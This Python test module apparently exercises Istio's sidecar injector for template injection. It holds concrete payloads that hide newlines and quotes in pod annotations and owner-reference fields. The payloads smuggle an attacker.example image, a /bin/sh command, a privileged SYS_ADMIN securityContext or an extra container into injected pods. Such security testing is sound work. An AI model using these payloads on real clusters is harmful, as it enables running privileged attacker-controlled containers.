"""What somebody writes into a pod to make Istio's injector write something else."""

from __future__ import annotations

import copy
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from typing import Any

from tests.apiserver.workloads import annotation, label

JSON = dict[str, Any]
LEVEL = "sidecar.istio.io/componentLogLevel"
IMAGE = "image: attacker.example/proxy:1"
_CONFINED = (
    "securityContext: {runAsUser: 1337, runAsGroup: 1337, runAsNonRoot: true, allowPrivilegeEscalation: "
    "false, "
    "capabilities: {drop: [ALL]}, seccompProfile: {type: RuntimeDefault}}"
)
_SECOND = f"misc:error\n    {_CONFINED}\n  - name: enable-core-dump\n    image: attacker.example/evil:1\n"
_POWERFUL = "securityContext: {privileged: true, runAsUser: 0, capabilities: {add: [SYS_ADMIN, NET_ADMIN]}}"


def _line(text: str) -> str:
    """A line of the container's own, after the argument that the value stands in; what follows goes where
    nobody reads."""
    return f"misc:error\n    {text}\n    x-rest:"


@dataclass(frozen=True)
class Attack:
    name: str
    change: Callable[[JSON], None]
    native: bool | None = None
    """Whether it is for native sidecars alone; None: for any."""


def _owner(**fields: Any) -> Callable[[JSON], None]:
    reference = {
        "apiVersion": "apps/v1",
        "kind": "StatefulSet",
        "uid": "1",
        "controller": True,
        "name": "x",
        **fields,
    }

    def change(template: JSON) -> None:
        template["metadata"]["ownerReferences"] = [reference]
        template["metadata"]["generateName"] = "case-"
        # The injector would write the owner's name twice, and once between quotes.
        label("service.istio.io/workload-name", "b")(template)

    return change


ATTACKS = (
    Attack("image", annotation(LEVEL, _line(IMAGE))),
    Attack("command", annotation(LEVEL, _line("command: [/bin/sh, -c, 'exec my-own-program']"))),
    Attack("privileged", annotation(LEVEL, _line(_POWERFUL))),
    Attack("log level", annotation("sidecar.istio.io/logLevel", _line(IMAGE))),
    Attack("agent's log level", annotation("sidecar.istio.io/agentLogLevel", _line(IMAGE))),
    Attack("second container", annotation(LEVEL, f"{_SECOND}    args:"), native=False),
    Attack(
        "second native container",
        annotation(LEVEL, f"{_SECOND}    restartPolicy: Always\n    args:"),
        native=True,
    ),
    Attack("owner's name", _owner(name=f"x\n    {IMAGE}\n    x-rest:")),
    Attack("owner's kind", _owner(kind=f"x/y\n    {IMAGE}\n    x-rest: #")),
)

LINES = (
    _line(IMAGE),
    _line("command: [/bin/sh]"),
    _line(_POWERFUL),
    f'x"\n    {IMAGE}\n    x-rest: "',
    f"x'\n    {IMAGE}\n    x-rest: '",
    f'x",\n  }}\nspec:\n  containers:\n  - name: istio-proxy\n    {IMAGE}\nrest: {{a: "',
    "misc:error\n  - name: istio-proxy\n    $patch: delete\n  - name: x-rest\n    args:",
    "misc:error\r\n    image: attacker.example/proxy:1",
    f"misc:error\u2028    {IMAGE}",
    f"misc:error\n    {IMAGE}",
    "misc:error\n",
)
"""Texts that break out of a line, of double and of single quotes, of a list and of a map in braces."""
PLAIN_TEXTS = (
    '"', "'", "{}", "[]", "a: b", "- a", "*a", "&a", "!!binary x", "|", "#", "{{ .Values }}", "null", "~",
    "$(POD_NAME)", "\t", "80@attacker.example", "@attacker.example/", "0", "TPROXY", "NONE", "debug",
    "a" * 70,
)  # fmt: skip
"""Texts that mean something in YAML, in a template, in a URL or to the injector."""

KNOWN_TO_THE_CODE = (
    "sidecar.istio.io/inject",
    "sidecar.istio.io/proxyImageType",
    "sidecar.istio.io/nativeSidecar",
    "sidecar.istio.io/statsInclusionPrefixes",
    "sidecar.istio.io/extraStatTags",
    "proxy.istio.io/config",
    "proxy.istio.io/overrides",
    "inject.istio.io/templates",
    "status.sidecar.istio.io/port",
    "topology.istio.io/network",
    "istio.io/rev",
    "istio.io/dataplane-mode",
    "networking.istio.io/tunnel",
    "security.istio.io/tlsMode",
)
"""Names that Istio's code acts on beside the template, when it injects and when the proxy starts."""

OWN_FIELDS = (
    ".ObjectMeta.Annotations",
    ".ObjectMeta.Labels",
    ".Spec.Containers",
    ".Spec.ServiceAccountName",
    ".DeploymentMeta.Name",
    ".DeploymentMeta.Namespace",
    ".TypeMeta.APIVersion",
    ".TypeMeta.Kind",
    "$container.Name",
    "$c.Ports",
)
"""What the template reads of a pod. Annotations and labels are tried by key."""


def in_field(field: str) -> Iterator[Callable[[JSON, str], None]]:
    """Ways to put a text where the template reads this field."""

    def owner(part: str) -> Callable[[JSON, str], None]:
        return lambda template, text: _owner(**{part: text})(template)

    def name(template: JSON, text: str) -> None:
        template["spec"]["containers"][0]["name"] = text

    def second_name(template: JSON, text: str) -> None:
        template["spec"]["containers"].append({**template["spec"]["containers"][0], "name": text})

    def port(part: str) -> Callable[[JSON, str], None]:
        def change(template: JSON, text: str) -> None:
            template["spec"]["containers"][0]["ports"] = [{"containerPort": 8080, part: text}]

        return change

    def account(template: JSON, text: str) -> None:
        template["spec"]["serviceAccountName"] = text

    def prober(template: JSON, text: str) -> None:
        template["spec"]["containers"][0]["readinessProbe"] = {
            "httpGet": {"path": text, "port": 8080, "host": text}
        }

    yield from {
        ".DeploymentMeta.Name": (owner("name"),),
        ".TypeMeta.Kind": (owner("kind"),),
        ".TypeMeta.APIVersion": (owner("apiVersion"),),
        ".Spec.ServiceAccountName": (account,),
        "$container.Name": (name, second_name),
        ".Spec.Containers": (prober,),
        "$c.Ports": (port("name"), port("hostIP"), port("protocol")),
    }.get(field, ())


def with_text(template: JSON, put: Callable[[JSON, str], None], text: str) -> JSON:
    changed = copy.deepcopy(template)
    put(changed, text)
    return changed
